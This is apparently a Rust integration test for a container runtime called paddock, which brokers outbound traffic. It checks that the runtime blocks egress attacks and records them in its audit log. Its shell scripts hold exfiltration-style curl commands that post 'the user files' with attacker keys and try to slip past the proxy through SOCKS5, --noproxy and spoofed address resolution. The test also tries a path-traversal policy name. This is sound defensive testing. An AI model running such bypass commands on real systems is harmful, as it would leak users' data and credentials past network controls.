//! A container under a paddock policy (`io.paddock.policy`), through
//! Debian's podman with paddock as the runtime: the egress attacks of
//! `paddock run` (a denied host, a foreign credential on an allowed
//! host, SOCKS5, a direct connection that ignores the proxy, the
//! engine's own network) from the container's first process and from
//! `podman exec`. Ground truth is what the test's HTTPS server received,
//! and the audit log on the node.

use std::path::Path;
use std::process::Command;

use crate::egress::{Upstream, REAL_KEY};
use crate::oci::{image_as, node_runtime, Podman};
use crate::util::*;

const POLICY: &str = r#"version = 1
[network]
mode = "proxy"
allow = ["api.test.example", "SERVER:PORT"]

[[network.rules]]
host = "api.test.example"
inspect = true
allow = ["POST /v1/messages", "GET /v1/models"]

[[network.credentials]]
host = "api.test.example"
header = "x-api-key"
source = "env:PADDOCK_IT_REAL_KEY"
env = "ANTHROPIC_API_KEY"

[audit]
sinks = ["jsonl", "otlp"]
otlp_endpoint = "http://127.0.0.1:OTLP"
"#;

/// What the container runs: an allowed call with the placeholder, then
/// the attacks, each line saying how it ended.
const ATTACKS: &str = r#"
echo "key=$ANTHROPIC_API_KEY"
curl -sS https://api.test.example/v1/models -H "x-api-key: $ANTHROPIC_API_KEY"; echo " allowed=$?"
curl -sS -o /dev/null -w 'foreign=%{http_code}\n' -X POST -H 'x-api-key: sk-attacker-0000' --data-binary 'the user files' https://api.test.example/v1/messages
curl -sS -o /dev/null -w 'denied=%{http_code}/%{http_connect}\n' https://other.test.example/ 2>/dev/null; echo "denied_rc=$?"
curl -sS -o /dev/null -w 'socks=%{http_code}\n' --socks5-hostname 127.0.0.1:3128 -X POST -H 'x-api-key: sk-attacker-0001' --data-binary 'the user files' https://api.test.example/v1/messages
curl -k -sS -m 5 --noproxy '*' -o /dev/null -H 'x-api-key: sk-attacker-0005' --data-binary 'the user files' https://127.0.0.1:PORT/v1/messages 2>/dev/null; echo "host_loopback_rc=$?"
curl -sS -m 5 --noproxy '*' --resolve api.test.example:443:192.0.2.7 -o /dev/null -H 'x-api-key: sk-attacker-0002' https://api.test.example/v1/models 2>/dev/null; echo "ip_literal_rc=$?"
"#;

const FROM_EXEC: &str = r#"
echo "exec_key=$ANTHROPIC_API_KEY"
curl -sS -o /dev/null -w 'exec_foreign=%{http_code}\n' -X POST -H 'x-api-key: sk-attacker-0003' --data-binary x https://api.test.example/v1/messages
env -u HTTPS_PROXY -u https_proxy curl -sS -m 5 --resolve api.test.example:443:192.0.2.8 -o /dev/null -H 'x-api-key: sk-attacker-0004' https://api.test.example/v1/models 2>/dev/null; echo "exec_ip_literal_rc=$?"
curl -sS https://api.test.example/v1/models -H "x-api-key: $ANTHROPIC_API_KEY"; echo " exec_allowed=$?"
"#;

fn line<'a>(out: &'a str, key: &str) -> &'a str {
    out.lines()
        .find_map(|l| l.strip_prefix(key))
        .unwrap_or_else(|| panic!("no `{key}` in:\n{out}"))
}

/// Every event of one container's audit log.
fn events(audit: &Path) -> Vec<(String, serde_json::Value)> {
    let mut out = Vec::new();
    for d in std::fs::read_dir(audit).unwrap().flatten() {
        let id = d.file_name().to_string_lossy().into_owned();
        for l in std::fs::read_to_string(d.path().join("audit.jsonl"))
            .unwrap_or_default()
            .lines()
        {
            out.push((id.clone(), serde_json::from_str(l).unwrap()));
        }
    }
    out
}

/// Under `io.paddock.policy=agent`, a container's only way out is
/// paddock's proxy: the allowed call arrives with the real key swapped
/// in (the container held a placeholder); the attacker's key, a denied
/// host, SOCKS5, the host's loopback and an address literal that ignores
/// the proxy reach nothing, from `podman run` and from `podman exec`
/// alike. Every decision and command is in the node's audit log with the
/// container's id and its pod. A policy named badly, missing, writable
/// by others or invalid is refused before anything starts, each with
/// what to do.
#[test]
fn a_policy_annotation_gives_a_container_paddocks_egress_brokering_and_audit() {
    if !tun_usable() {
        eprintln!("note: /dev/net/tun is not usable; skipped");
        return;
    }
    let ws = Ws::new();
    let up = Upstream::start(&ws.outside);
    let policies = ws.root.join("policies");
    std::fs::create_dir_all(&policies).unwrap();
    std::fs::write(
        policies.join("bad.toml"),
        "version = 1\n[network]\nmode = \"proxyy\"\n",
    )
    .unwrap();
    let audit = ws.root.join("audit");
    let p = up.port;
    // As root the engine gives the container the host's own network (the
    // test's server is on its loopback). Rootless, the default network
    // (slirp4netns, its own namespace) with the host's loopback at
    // 10.0.2.2: the proxy reaches the server from the engine's network.
    let (network, server) = if running_as_root() {
        ("host", "127.0.0.1")
    } else {
        ("slirp4netns:allow_host_loopback=true", "10.0.2.2")
    };
    // The node's OTLP collector: the export leaves from the runtime's own
    // network (the container's has none of it).
    let otlp = crate::audit::Receiver::start();
    let policy = POLICY
        .replace("OTLP", &otlp.port.to_string())
        .replace("PORT", &up.port.to_string())
        .replace("SERVER", server);
    std::fs::write(policies.join("agent.toml"), &policy).unwrap();
    std::fs::write(policies.join("loose.toml"), &policy).unwrap();
    Command::new("chmod")
        .args(["0666", policies.join("loose.toml").to_str().unwrap()])
        .status()
        .unwrap();
    let wrapper = node_runtime(
        &ws.root,
        &format!(
            "export PADDOCK_IT_REAL_KEY={REAL_KEY}\nexport PADDOCK_TEST_RESOLVE=api.test.example={server}:{p},other.test.example={server}:{p}\nexport PADDOCK_TEST_UPSTREAM_CA={}\n",
            up.ca.display()
        ),
        &policies,
        &audit,
    );
    let pm = Podman::at(&ws.root, wrapper.clone());
    // As a user, rootless podman: the runtime is root of a user namespace
    // mapped onto the user, the policy and the audit log the user's own.
    if !pm.usable() {
        return;
    }
    // The image's programs are busybox's; curl and its libraries are the
    // host's /usr, bound read-only.
    let image = "localhost/paddock-test-curl:1";
    image_as(&pm, image, &|r| {
        std::fs::create_dir_all(r.join("usr")).unwrap();
        for l in ["lib", "lib64"] {
            std::os::unix::fs::symlink(format!("usr/{l}"), r.join(l)).unwrap();
        }
        for a in ["env", "tr"] {
            std::os::unix::fs::symlink("busybox", r.join("bin").join(a)).unwrap();
        }
    });
    // The policy's namespace replaces the engine's network inside.
    let base = [
        "--network",
        network,
        "-v",
        "/usr:/usr:ro",
        "--env",
        "PATH=/bin:/usr/bin",
    ];
    let annotated = |name: &str| {
        let mut v: Vec<String> = base.iter().map(|s| s.to_string()).collect();
        for a in [
            format!("io.paddock.policy={name}"),
            "io.kubernetes.pod.name=agent-pod".into(),
            "io.kubernetes.pod.namespace=team-a".into(),
        ] {
            v.push("--annotation".into());
            v.push(a);
        }
        v
    };

    // 1. The container's first process.
    let args = annotated("agent");
    let mut extra: Vec<&str> = vec!["--rm"];
    extra.extend(args.iter().map(String::as_str));
    let o = pm.run_in(
        image,
        &extra,
        &["sh", "-c", &ATTACKS.replace("PORT", &p.to_string())],
    );
    let out = format!("{}\n{}", stdout(&o), stderr(&o));
    assert!(o.status.success(), "{out}");
    let key = line(&out, "key=");
    assert!(
        !key.is_empty() && key != REAL_KEY,
        "the container holds a placeholder: {out}"
    );
    assert!(line(&out, "{\"ok\": true} allowed=") == "0", "{out}");
    assert_eq!(line(&out, "foreign="), "403", "{out}");
    assert!(line(&out, "denied=").ends_with("/403"), "{out}");
    assert_eq!(line(&out, "socks="), "403", "{out}");
    assert_ne!(line(&out, "host_loopback_rc="), "0", "{out}");
    assert_ne!(line(&out, "ip_literal_rc="), "0", "{out}");

    // 1b. The proxy connects out from the engine's network: with
    //     `--network none` there is none, so the policy gives nothing more.
    let mut none: Vec<String> = annotated("agent");
    none[1] = "none".into();
    let mut extra: Vec<&str> = vec!["--rm"];
    extra.extend(none.iter().map(String::as_str));
    let o = pm.run_in(
        image,
        &extra,
        &[
            "sh",
            "-c",
            "curl -sS -m 10 -o /dev/null -w 'none=%{http_code}\\n' https://api.test.example/v1/models -H \"x-api-key: $ANTHROPIC_API_KEY\"",
        ],
    );
    let out = format!("{}\n{}", stdout(&o), stderr(&o));
    // The proxy answers (a bad gateway); the server hears nothing.
    assert_ne!(line(&out, "none="), "200", "{out}");
    assert!(up.requests().len() == 1, "{:?}", up.requests());

    // 2. `podman exec` into a running one: the same variables, the same
    //    network, the same judge.
    let mut extra: Vec<&str> = vec!["-d"];
    extra.extend(args.iter().map(String::as_str));
    let o = pm.run_in(image, &extra, &["sleep", "60"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let id = stdout(&o).trim().to_string();
    let o = pm.exec(&id, &["sh", "-c", FROM_EXEC]);
    let out = stdout(&o);
    assert!(o.status.success(), "{out}{}", stderr(&o));
    // The container's own placeholder (each container has its own): the
    // allowed call below arrives with the real key only if it is.
    let exec_key = line(&out, "exec_key=");
    assert!(
        exec_key.starts_with("paddock-placeholder-") && exec_key != key,
        "{out}"
    );
    assert_eq!(line(&out, "exec_foreign="), "403", "{out}");
    assert_ne!(line(&out, "exec_ip_literal_rc="), "0", "{out}");
    assert_eq!(line(&out, "{\"ok\": true} exec_allowed="), "0", "{out}");
    pm.remove(&id);

    // Ground truth on the far side: the two allowed calls, each with the
    // real key; nothing of the attacker's.
    let got = up.requests();
    assert_eq!(got.len(), 2, "{got:?}");
    for r in &got {
        assert_eq!(r["headers"]["x-api-key"], REAL_KEY, "{r}");
        assert_eq!(r["path"], "/v1/models", "{r}");
    }
    assert!(
        !serde_json::to_string(&got).unwrap().contains("sk-attacker"),
        "{got:?}"
    );

    // The node's audit log: every event names its container and pod.
    let evs = events(&audit);
    assert!(!evs.is_empty());
    for (dir, e) in &evs {
        assert_eq!(e["labels"]["container.id"], dir.as_str(), "{e}");
        assert_eq!(e["labels"]["k8s.pod.name"], "agent-pod", "{e}");
        assert_eq!(e["labels"]["k8s.namespace.name"], "team-a", "{e}");
    }
    let mine: Vec<&serde_json::Value> = evs
        .iter()
        .filter(|(d, _)| *d == id)
        .map(|(_, e)| e)
        .collect();
    let of = |_: &str| mine.iter().copied();
    let foreign = of(&id)
        .filter(|e| e["kind"] == "net.decision" && e["reason_code"] == "NET_FOREIGN_CREDENTIAL")
        .count();
    assert_eq!(foreign, 1, "the exec's foreign key, recorded: {evs:?}");
    assert!(
        of(&id).any(|e| e["kind"] == "exec.start" && e["data"]["argv"][0] == "sh"),
        "{evs:?}"
    );
    // The proxy's daemon ended with the container.
    let proxy = of(&id)
        .find_map(|e| e["data"]["proxy_pid"].as_u64())
        .expect("session.start names the proxy");
    let gone = (0..100).any(|_| {
        std::thread::sleep(std::time::Duration::from_millis(20));
        std::fs::read_to_string(format!("/proc/{proxy}/stat")).map_or(true, |s| s.contains(") Z "))
    });
    assert!(gone, "the egress daemon {proxy} outlived its container");
    assert!(of(&id).any(|e| e["kind"] == "session.stop"), "{evs:?}");

    // The collector got the same, each record with the container and its
    // pod: the foreign key's refusal, the exec.
    use crate::audit::text;
    let pod_of = |attrs: &[opentelemetry_proto::tonic::common::v1::KeyValue]| {
        (
            text(attrs, "container.id"),
            text(attrs, "k8s.pod.name"),
            text(attrs, "k8s.namespace.name"),
        )
    };
    let want = (
        Some(id.clone()),
        Some("agent-pod".to_string()),
        Some("team-a".to_string()),
    );
    assert!(
        wait_until(std::time::Duration::from_secs(10), || otlp
            .logs()
            .iter()
            .any(|l| l.event_name == "paddock.net.decision"
                && text(&l.attributes, "paddock.reason_code").as_deref()
                    == Some("NET_FOREIGN_CREDENTIAL")
                && pod_of(&l.attributes) == want)),
        "the collector got no refusal of the exec's foreign key with its pod"
    );
    for l in otlp.logs() {
        let (c, pod, ns) = pod_of(&l.attributes);
        assert!(
            c.is_some() && pod.as_deref() == Some("agent-pod") && ns.is_some(),
            "{l:?}"
        );
    }
    assert!(
        otlp.spans()
            .iter()
            .all(|s| pod_of(&s.attributes).1.as_deref() == Some("agent-pod")),
        "every span names the pod"
    );

    // 3. Policies that are not to be used, refused before anything runs.
    let before = std::fs::read_dir(&audit).unwrap().count();
    for (name, why) in [
        ("../agent", "not a path"),
        ("missing", "missing.toml"),
        ("loose", "others may write"),
        ("bad", "bad.toml"),
    ] {
        let args = annotated(name);
        let mut extra: Vec<&str> = vec!["--rm"];
        extra.extend(args.iter().map(String::as_str));
        let o = pm.run_in(image, &extra, &["true"]);
        assert!(!o.status.success(), "{name}");
        assert!(stderr(&o).contains(why), "{name}: {}", stderr(&o));
        // Not words engines read as "the runtime is not installed".
        assert_ne!(o.status.code(), Some(127), "{name}: {}", stderr(&o));
    }
    assert_eq!(std::fs::read_dir(&audit).unwrap().count(), before);

    // 4. A runtime handler with one policy (`--policy agent`, a
    //    RuntimeClass's): a container with no annotation runs under it;
    //    one whose annotation (anyone who creates pods writes those) asks
    //    for another is refused.
    let one = ws.root.join("paddock-oci-one");
    let text = std::fs::read_to_string(&wrapper).unwrap();
    let handler = |name: &str, flags: &str| {
        let path = ws.root.join(name);
        std::fs::write(
            &path,
            text.replace(" --policies '*' \"$@\"", &format!(" {flags} \"$@\"")),
        )
        .unwrap();
        Command::new("chmod")
            .args(["0755", path.to_str().unwrap()])
            .status()
            .unwrap();
        Podman {
            dir: pm.dir.clone(),
            rt: path,
        }
    };
    std::fs::write(
        &one,
        text.replace(" --policies '*' \"$@\"", " --policy agent \"$@\""),
    )
    .unwrap();
    Command::new("chmod")
        .args(["0755", one.to_str().unwrap()])
        .status()
        .unwrap();
    let pinned = Podman {
        dir: pm.dir.clone(),
        rt: one,
    };
    let mut extra: Vec<&str> = vec!["--rm"];
    extra.extend(base);
    let o = pinned.run_in(image, &extra, &["sh", "-c", "echo key=$ANTHROPIC_API_KEY"]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(
        line(&stdout(&o), "key=").starts_with("paddock-placeholder-"),
        "{}",
        stdout(&o)
    );
    let args = annotated("bad");
    let mut extra: Vec<&str> = vec!["--rm"];
    extra.extend(args.iter().map(String::as_str));
    let o = pinned.run_in(image, &extra, &["true"]);
    assert!(!o.status.success());
    assert!(
        stderr(&o).contains("under the policy `agent` only"),
        "{}",
        stderr(&o)
    );

    // 5. An image's own annotations (podman copies them into the bundle)
    //    choose no policy: not on a handler that takes none from
    //    annotations, not one its list leaves out, not past a pinned one.
    //    The permissive policy they ask for would send the node's key
    //    anywhere on the host; the server hears nothing of it.
    std::fs::write(
        policies.join("permissive.toml"),
        POLICY
            .replace(
                "\"GET /v1/models\"",
                "\"GET /v1/models\", \"GET /v1/anything\"",
            )
            .replace("OTLP", &otlp.port.to_string())
            .replace("PORT", &up.port.to_string())
            .replace("SERVER", server),
    )
    .unwrap();
    let ctx = ws.root.join("build");
    std::fs::create_dir_all(&ctx).unwrap();
    std::fs::write(ctx.join("Containerfile"), format!("FROM {image}\n")).unwrap();
    let o = pm
        .cmd()
        .args(["build", "-q", "--pull=never", "--format", "oci"])
        .args(["--annotation", "io.paddock.policy=permissive"])
        .args(["--annotation", "io.kubernetes.pod.namespace=kube-system"])
        .args(["-t", "localhost/paddock-test-annotated:1"])
        .arg(&ctx)
        .output()
        .unwrap();
    assert!(o.status.success(), "podman build: {}", stderr(&o));
    let requests = up.requests().len();
    let grab =
        "curl -sS -o /dev/null -w 'code=%{http_code}\\n' https://api.test.example/v1/anything";
    for (h, why) in [
        (
            handler("paddock-oci-plain", ""),
            "takes no policy from annotations",
        ),
        (
            handler("paddock-oci-list", "--policies agent"),
            "choose only agent",
        ),
        (pinned, "under the policy `agent` only"),
    ] {
        let mut extra: Vec<&str> = vec!["--rm"];
        extra.extend(base);
        let o = h.run_in(
            "localhost/paddock-test-annotated:1",
            &extra,
            &["sh", "-c", grab],
        );
        assert!(!o.status.success(), "{why}: {}", stdout(&o));
        assert!(stderr(&o).contains(why), "{}", stderr(&o));
    }
    assert_eq!(up.requests().len(), requests, "{:?}", up.requests());

    // 6. A container under a policy with the host's pids (`--pid host`)
    //    could stop its own egress daemon, or another's: refused.
    let args = annotated("agent");
    let mut extra: Vec<&str> = vec!["--rm", "--pid", "host"];
    extra.extend(args.iter().map(String::as_str));
    let o = pm.run_in(image, &extra, &["true"]);
    assert!(!o.status.success());
    assert!(
        stderr(&o).contains("pid namespace of its own"),
        "{}",
        stderr(&o)
    );
    assert_eq!(std::fs::read_dir(&audit).unwrap().count(), before + 1);
    pm.clean();
}
